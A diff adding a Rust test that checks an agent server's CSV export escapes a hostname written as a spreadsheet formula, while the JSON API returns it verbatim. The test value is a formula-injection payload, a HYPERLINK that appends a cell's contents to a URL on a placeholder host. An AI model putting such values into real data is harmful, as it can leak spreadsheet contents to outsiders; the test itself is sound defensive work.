@@ -404,3 +404,25 @@ async fn agents_and_units_csv_open_in_a_spreadsheet() {
         .unwrap();
     assert!(!row[10].is_empty(), "{row:?}");
 }
+
+#[tokio::test]
+async fn a_machine_named_like_a_formula_is_text_in_the_csv() {
+    let h = Harness::with_tree(TREE_3).await;
+    let token = h.enrol_token("17-SYT", None).await;
+    let name = r#"=HYPERLINK("http://x.example/?"&A1,"open")"#;
+    let body = serde_json::json!({"token": token, "machine_id": "formula", "hostname": name});
+    h.enroll_raw(&body.to_string())
+        .await
+        .json(StatusCode::CREATED);
+    let viewer = h.api_token("viewer").await;
+    let reply = h.get("/api/v1/agents.csv", Some(&viewer)).await;
+    let mut rows = csv::Reader::from_reader(csv_text(&reply).as_bytes());
+    let hostnames: Vec<String> = rows.records().map(|r| r.unwrap()[4].to_string()).collect();
+    assert_eq!(hostnames, [format!("'{name}")]);
+    // The JSON list, which no spreadsheet opens, has the name as the machine gave it.
+    let list = h
+        .get("/api/v1/agents", Some(&viewer))
+        .await
+        .json(StatusCode::OK);
+    assert_eq!(list["agents"][0]["hostname"], name, "{list}");
+}
